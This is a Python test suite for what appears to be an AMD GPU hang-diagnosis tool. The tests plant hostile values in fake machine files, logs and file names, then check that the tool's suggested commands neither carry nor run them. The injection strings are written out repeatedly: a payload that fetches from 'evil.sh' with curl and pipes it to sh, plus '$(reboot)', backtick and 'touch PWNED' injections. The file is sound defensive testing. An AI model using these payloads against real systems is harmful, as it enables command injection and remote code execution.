#!/usr/bin/env python3
"""No command is built from a stranger's bytes: hostile machines, logs and names, and what real shells make of every command."""
import json
import os
import pathlib
import random
import re
import shutil
import subprocess
import sys
import tempfile

import tap
from machine_tree import plant_text

EVIL = "9;curl${IFS}evil.sh|sh"
GPU = """
=== /sys/bus/pci/devices/0000:03:00.0/vendor
0x1002
=== /sys/bus/pci/devices/0000:03:00.0/device
0x744c
=== /sys/bus/pci/devices/0000:03:00.0/revision
0xc8
=== /sys/bus/pci/devices/0000:03:00.0/class
0x030000
=== /proc/sys/kernel/osrelease
6.12.48-amd64
=== /proc/cmdline
ro quiet
=== /etc/os-release
ID=bazzite
=== /sys/module/amdgpu/taint

=== /sys/module/amdgpu/parameters/lockup_timeout

=== /sys/module/amdgpu/parameters/runpm
-1
=== /sys/module/amdgpu/parameters/cwsr_enable
1
=== /usr/lib/modules/6.12.48-amd64/modules.dep
kernel/drivers/gpu/drm/amd/amdgpu/amdgpu.ko: kernel/drivers/gpu/drm/ttm/ttm.ko
"""
OSTREE = "=== /run/ostree-booted\n\n=== /usr/bin/rpm-ostree\n\n"
BUILT_IN = OSTREE + "=== /usr/lib/modules/6.12.48-amd64/modules.builtin\nkernel/drivers/gpu/drm/amd/amdgpu/amdgpu.ko\n"
ENTRY = "=== /boot/loader/entries/a.conf\nversion 6.12.48-amd64\nlinux /vmlinuz\noptions ro {}\n"
STEPS = ("do", "check", "undo", "cost", "risk", "until")


def findings(unhang, text, people=False):
    """What the doctor tells to do on such a machine: (id, key, step); and its output for people."""
    with tempfile.TemporaryDirectory(prefix="unhang-commands-") as room:
        root = pathlib.Path(room)
        plant_text(text, root)
        document = json.loads(unhang.run("doctor", "--root", root, "--json").stdout)
        shown = unhang.run("doctor", "--root", root).stdout.decode(errors="replace") if people else ""
    steps = []
    for finding in document["findings"]:
        for key in STEPS:
            said = finding[key] or []
            steps += [(finding["id"], key, step) for step in ([said] if isinstance(said, str) else said)]
    facts = [f for item in document["machine"]["items"] for f in item["facts"]] + document["machine"]["facts"]
    steps += [("fact", f["name"], f["value"]) for f in facts if f["name"].split(".")[0] in ("remove", "activate", "write", "written", "restore", "word")]
    return steps, shown


def test_trees(t, unhang):
    for name, more in [
            ("modprobe.d on rpm-ostree", BUILT_IN + f"=== /etc/modprobe.d/a.conf\noptions amdgpu lockup_timeout={EVIL}\n"),
            ("modprobe.d", f"=== /etc/modprobe.d/a.conf\noptions amdgpu lockup_timeout={EVIL} runpm={EVIL} cwsr_enable={EVIL}\n"),
            ("a misspelt parameter", f"=== /etc/modprobe.d/a.conf\noptions amdgpu cwsr_enabel={EVIL}\n"),
            ("a misspelt line", f"=== /etc/modprobe.d/a.conf\noption amdgpu cwsr_enable={EVIL}\n"),
            ("a misspelt module", f"=== /etc/modprobe.d/a.conf\noptions amdgu cwsr_enable={EVIL}\n"),
            ("a parameter of that name", f"=== /etc/modprobe.d/a.conf\noptions amdgpu {EVIL}=1\n"),
            ("a module of that name", f"=== /etc/modprobe.d/a.conf\nblacklist amdgpu\ninstall amdgpu {EVIL}\n"),
            ("a file of that name", "=== /etc/modprobe.d/;evil.sh|sh.conf\noptions amdgpu runpm=0 cwsr_enabel=0\n"),
            ("the command line", f'=== /proc/cmdline\nro amdgpu.runpm="{EVIL}" amdgpu.lockup_timeout={EVIL} iommu={EVIL} pcie_aspm={EVIL}\n'),
            ("the command line on rpm-ostree", OSTREE + f'=== /proc/cmdline\nro amdgpu.runpm={EVIL} amdgpu.lockup_timeout={EVIL} amdgpu.cwsr_enabel={EVIL}\n'),
            ("GRUB's file", f'=== /etc/default/grub\nGRUB_CMDLINE_LINUX_DEFAULT="amdgpu.runpm={EVIL} amdgpu.ppfeaturemask={EVIL}"\n=== /boot/grub/grub.cfg\n\n'),
            ("an entry of the boot loader", ENTRY.format(f"amdgpu.runpm={EVIL}") + "=== /boot/loader/loader.conf\n\n"),
            ("the kernel's name", f"=== /proc/sys/kernel/osrelease\n6.12.48;{EVIL}\n"),
            ("the policy of ASPM", f"=== /sys/module/pcie_aspm/parameters/policy\ndefault [{EVIL}] powersave\n"),
            ("the level of performance", f"=== /sys/bus/pci/devices/0000:03:00.0/power_dpm_force_performance_level\n{EVIL}\n"),
            ("a variable", f"=== /etc/environment\nHSA_OVERRIDE_GFX_VERSION={EVIL}\nHSA_ENABLE_SDMA={EVIL}\nAMD_LOG_LEVEL={EVIL}\n"),
            ("firmware in the log", f"=== /var/log/dmesg\n[    3.1] amdgpu 0000:03:00.0: Direct firmware load for amdgpu/{EVIL}.bin failed with error -2\n"
                                    "[    3.2] amdgpu 0000:03:00.0: amdgpu: Fatal error during GPU init\n"),
    ]:
        steps, _ = findings(unhang, GPU + more)
        wrong = [f"{where}: {key}: {step}" for where, key, step in steps if "${IFS}" in step or "|sh" in step.replace("'/etc/modprobe.d/;evil.sh|sh.conf", "")]
        t.no_complaints(wrong, f"nothing of it is told to do: {name}")
    steps, shown = findings(unhang, GPU + BUILT_IN + f"=== /etc/modprobe.d/a.conf\noptions amdgpu lockup_timeout={EVIL}\n", people=True)
    told = [step for _, key, step in steps if key == "do"]
    t.ok(any("--append-if-missing=amdgpu.lockup_timeout=VALUE" in step for step in told), "instead of the value there is what a person fills in", told)
    t.ok(not re.search(r"kargs\S*\s[^\n]*curl", shown), "nor does the text for people have it", shown)
    steps, _ = findings(unhang, GPU + BUILT_IN + "=== /etc/modprobe.d/a.conf\noptions amdgpu lockup_timeout=9,10\n")
    told = [step for _, key, step in steps if key == "do"]
    t.ok(any("--append-if-missing=amdgpu.lockup_timeout=9,10" in step for step in told), "a value that is plain is told as it is", told)


def test_firmware(t, unhang):
    log = ("[    3.1] amdgpu 0000:03:00.0: Direct firmware load for amdgpu/{}.bin failed with error -2\n"
           "[    3.2] amdgpu 0000:03:00.0: amdgpu: Fatal error during GPU init\n")
    for name, wanted in (("navi31;reboot", "/lib/firmware/FIRMWARE_MISSING*"), ("$(reboot)", "/lib/firmware/FIRMWARE_MISSING*"),
                         ("gc_11_0_0_mes", "/lib/firmware/amdgpu/gc_11_0_0_mes.bin*")):
        steps, _ = findings(unhang, GPU + "=== /var/log/dmesg\n" + log.format(name))
        told = [step for where, key, step in steps if key == "do" and "ls -l /lib/firmware" in step]
        t.ok(told and all(wanted in step for step in told), f"a firmware file that is called {name}", steps)


LOG = """[   10.1] amdgpu 0000:03:00.0: amdgpu: [gfxhub] page fault (src_id:0 ring:24 vmid:3 pasid:32771)
[   10.1] amdgpu 0000:03:00.0: amdgpu:  for process {0} pid 4711 thread {0} pid 4711
[   10.2] amdgpu 0000:03:00.0: amdgpu:   in page starting at address 0x00007f0000000000 from client 10
[   20.1] [drm:amdgpu_job_timedout [amdgpu]] *ERROR* ring gfx_0.0.0 timeout, signaled seq=1, emitted seq=3
[   20.2] [drm:amdgpu_job_timedout [amdgpu]] *ERROR* Process information: process {0} pid 4711 thread {0} pid 4711
"""


def test_logs(t, unhang):
    for name in ("$(reboot)", "a;reboot", "`id`", "x|sh"):
        answer = unhang.explain_text(LOG.format(name))
        for incident in answer.document["incidents"]:
            told = [n["run"] for n in incident["next"]] + [incident["action"]["text"]]
            told += [step for r in incident["remedies"] for step in r["do"]]
            t.no_complaints([step for step in told if name in step], f"a process that is called {name} is in nothing that is told to do")
    answer = unhang.explain_text(LOG.format("python3"))
    t.ok(any("python3 (4711)" in i["action"]["text"] for i in answer.document["incidents"]), "one with a usual name is", answer.stdout.decode()[:2000])


def test_backwards(t, unhang):
    """A log that runs backwards and is too long: how to turn it round, with the name of the file as one word."""
    lines = [f"[{n:9d}.1] [drm:amdgpu_job_timedout [amdgpu]] *ERROR* ring gfx_0.0.0 timeout, signaled seq={n}, emitted seq={n + 2}" for n in range(17000, 0, -1)]
    for name, wanted in (("my $(reboot) log.txt", "'my $(reboot) log.txt'"), ("it's.txt", "'it'\\''s.txt'")):
        path = unhang.write("backwards.d/" + name, "\n".join(lines) + "\n")
        run = subprocess.run([unhang.binary, "explain", "--json", name], cwd=path.parent, capture_output=True, env=unhang.environment)
        said = re.search(rb"reverse it first: tac (.*)", run.stderr)
        if not t.ok(said, "a long log that runs backwards is told of", run.stderr):
            return
        t.same(said.group(1).decode(), wanted, f"and how to turn {name} round")


def test_apply(t, unhang):
    """What --apply tells to do by hand, and how a profile is sourced."""
    with tempfile.TemporaryDirectory(prefix="unhang-commands-") as room:
        root = pathlib.Path(room)
        evil = f"=== /etc/modprobe.d/a.conf\noptions amdgpu lockup_timeout={EVIL}\n=== /sys/module/amdgpu/parameters/lockup_timeout\n{EVIL}\n"
        plant_text(GPU + evil, root)
        out = unhang.run("doctor", "--root", root, "--apply", "lockup-timeout-set").stdout.decode()
        told = [line for line in out.splitlines()[1:] if line.strip()]
        t.ok(any("remove amdgpu.lockup_timeout by hand" in line for line in told) and "curl" not in "".join(told), "what is to be taken out by hand is named, not its value", out)
        directory = root / "a b$(touch PWNED)"
        directory.mkdir()
        run = unhang.run("doctor", "--root", root, "--apply", "rocblas-instead-of-stream-k", "--profile", directory, "--yes")
        said = re.search(r"not active until: (.*) in the shell of the job", run.stdout.decode())
        words = subprocess.run(["sh", "-c", f"set -f; f() {{ printf '%s\\n' \"$@\"; }}; f {said.group(1)}"], capture_output=True, cwd=room).stdout.decode() if said else run.stderr.decode()
        t.same(words.splitlines(), [".", f"{directory}/rocblas-instead-of-stream-k.sh"], "a profile's directory is one word for the shell")
        t.ok(not (root / "PWNED").exists(), "and nothing of its name is run")


FORMAT = [0xad, 0x61c, *range(0x200b, 0x2010), 0x2028, 0x2029, *range(0x202a, 0x202f), *range(0x2060, 0x2065), *range(0x2066, 0x206a), 0xfeff, 0xfff9, 0xe0001, 0xe0041]


def test_format_characters(t, unhang):
    marks = "".join(map(chr, FORMAT))
    for name, run in [
            ("the report", unhang.run("explain", "-v", unhang.write("marks.txt", LOG.format("a" + marks + "b")))),
            ("its JSON", unhang.run("explain", "--json", unhang.write("marks.txt", LOG.format("a" + marks + "b")))),
            ("an error", unhang.run("explain", "no-such-" + marks)),
            ("a complaint about an option", unhang.run("doctor", "--apply", "x" + marks)),
            ("a complaint about knowledge", unhang.run("knowledge", "check", unhang.write("marks.know", f"no-such-kind{marks} x\n    a b\n"))),
    ]:
        out = (run.stdout + run.stderr).decode()
        t.same(sorted({f"U+{ord(c):04X}" for c in out if ord(c) in FORMAT}), [], f"no mark of direction nor other format character is in {name}")
        t.ok(out, f"and {name} is there")
    document = json.loads(unhang.run("explain", "--json", unhang.write("marks.txt", LOG.format("a" + marks + "b"))).stdout)
    t.ok("a" + marks[:3] in json.dumps(document, ensure_ascii=False), "in JSON they are escaped, and so kept", document["incidents"][:1])
    with tempfile.TemporaryDirectory(prefix="unhang-commands-") as room:
        plant_text(GPU + f"=== /etc/modprobe.d/a.conf\noptions amdgpu cwsr_enable=0{chr(0x202e)}x\n", pathlib.Path(room))
        for arguments in ([], ["--verbose"], ["--json"]):
            out = unhang.run("doctor", "--root", room, *arguments).stdout.decode()
            t.ok(chr(0x202e) not in out and out, f"nor in what the doctor says {' '.join(arguments)}", out[:500])


def hostile_values():
    pieces = [";", "|", "&", "$(touch PWNED)", "`touch PWNED`", "\n", "'", '"', "\\", "$IFS", "${IFS}", ">", "<", "(", ")", "#", "~", "*", "?", "[", "{a,b}", "!", "!!",
              " ", "\t", "-", "=", "touch PWNED", "\r", "\x1b[2J", "\u202e", "a", "0", "9", "x.y", "/", "..", ":", ",", "%", "@", "+", "_", "}", "{", "^", "EOF", "\udcff"]
    chance = random.Random(13)
    values = [";", "4711", "0x10", "-1", "0000:03:00.0", "amdgpu.runpm=0", "/sys/a/b", "16.0 GT/s PCIe", "gfx_0.0.0", "python3", "a'b c", "x" * 300, *pieces]
    while len(values) < (3000 if os.environ.get("UNHANG_TEST_ALL") else 600):  # make endure tries all
        values.append("".join(chance.choice(pieces) for _ in range(chance.randint(1, 6))))
    return [v.encode(errors="surrogateescape") for v in values]


def blank(name):
    return name.replace("@", "_FILE").replace(".", "_").upper()


def fits(text, command, value):
    """Whether the command is one alternative of the text, with the value or its blank for each fact; then the pairs of blanks and what stands there."""
    text = text.replace("``", "")  # marks what can be run, and is not printed
    for one in [text, *text.split(" || ")]:
        parts = re.split(r"\{([a-z][\w.@]*)\}", one)
        pattern = "".join(re.escape(p) if n % 2 == 0 else f"({re.escape(value)}|{re.escape(blank(p))})" for n, p in enumerate(parts))
        match = re.fullmatch(pattern, command, re.S)
        if match:
            return "".join(p if n % 2 == 0 else blank(p) for n, p in enumerate(parts)), list(zip(map(blank, parts[1::2]), match.groups()))
    return None


def filled(helper, values, environment):
    """What the program makes of the values: (text, command, value) of knowledge, and (command, value, words) of C."""
    run = subprocess.run([helper], input=b"".join(v + b"\0" for v in values), capture_output=True, env=environment)
    fields = iter(run.stdout.decode(errors="surrogateescape").split("\0"))
    texts, words = set(), []
    for kind in fields:
        if kind == "text":
            texts.add((next(fields), next(fields), next(fields)))
        elif kind == "words":
            command, value, n = next(fields), next(fields), int(next(fields))
            words.append((command, value, [next(fields) for _ in range(n)]))
    return run.returncode, texts, words


def parsed(commands, room, environment):
    """How bash parses each: its own print of a function with this body; nothing where it is no command. Nothing is run."""
    script = "".join(f"unset -f f; eval {quoted('f() {' + chr(10) + c + chr(10) + '}')} 2>/dev/null; declare -f f; printf '\\0'\n" for c in commands)
    run = subprocess.run([shutil.which("bash"), "--norc"], input=script.encode(errors="surrogateescape"), capture_output=True, cwd=room, env={**environment, "PATH": "/nonexistent"})
    return run.stdout.decode(errors="surrogateescape").split("\0")[:-1]


def takes(text):
    """sh reads it as commands."""
    return not subprocess.run(["sh", "-n"], input=text.encode(errors="surrogateescape"), capture_output=True).returncode


def quoted(text):
    return "'" + text.replace("'", "'\\''") + "'"


def test_shells(t, unhang, helper):
    room = unhang.directory / "shells"
    room.mkdir()
    status, texts, words = filled(helper, hostile_values(), unhang.environment)
    t.ok(status == 0 and len(texts) > 500 and len(words) > 500, "every command of knowledge and of C was made", f"{status}, {len(texts)}, {len(words)}")
    cases, wrong = [], []
    for text, command, value in sorted(texts):
        fit = fits(text, command, value) if command else ("", [])
        if fit is None:
            wrong.append(f"{text!r} with {value!r} is {command!r}")
        elif fit[1]:
            cases.append((command, *fit))
    t.no_complaints(wrong[:10], f"a value or its blank stands where the fact was: {len(texts)} commands")
    everything = sorted({c[0] for c in cases} | {c[1] for c in cases})
    shown = dict(zip(everything, parsed(everything, room, unhang.environment)))
    t.ok(len(shown) == len(everything) and sum(map(bool, shown.values())) > 300, f"bash parses most of {len(shown)} as commands", sum(map(bool, shown.values())))
    wrong = []
    for command, bare, pairs in cases:
        want = shown[bare]
        for name, value in pairs:
            want = want.replace(name, value, 1)
        if want != shown[command]:
            wrong.append(f"{command!r}:\n{shown[command]}\nand not\n{want}")
    t.no_complaints(wrong[:5], "each has the words of its text, with the value a part of one")
    known = {bare for bare in {c[1] for c in cases} if shown[bare] and takes(bare)}
    some = [c[0] for c in cases if c[1] in known]
    t.ok(takes("\n".join(some)), f"sh -n takes {len(some)} of them", next((c for c in some if not takes(c)), ""))
    script = "set -f\nf() { printf '%s\\0' \"$#\" \"$@\"; }\n" + "".join(f"f {command}\n" for command, _, _ in words)
    run = subprocess.run([shutil.which("sh")], input=script.encode(errors="surrogateescape"), capture_output=True, cwd=room, env={**unhang.environment, "PATH": "/nonexistent"})
    got = run.stdout.decode(errors="surrogateescape").split("\0")
    want = [field for _, _, w in words for field in (str(len(w)), *w)] + [""]
    first = next((n for n, (a, b) in enumerate(zip(got, want)) if a != b), None)
    t.ok(got == want and not run.stderr, f"a shell sees the expected words of {len(words)} commands", f"at {first}: {got[first:first + 8] if first is not None else len(got)}, {run.stderr[:300]}")
    t.same(sorted(p.name for p in room.iterdir()), [], "and nothing was run")


def main():
    t = tap.Tap()
    unhang = tap.Unhang(sys.argv[1])
    test_trees(t, unhang)
    test_firmware(t, unhang)
    test_logs(t, unhang)
    test_backwards(t, unhang)
    test_apply(t, unhang)
    test_format_characters(t, unhang)
    if len(sys.argv) > 2:
        test_shells(t, unhang, pathlib.Path(sys.argv[2]).resolve())
    t.end()


main()
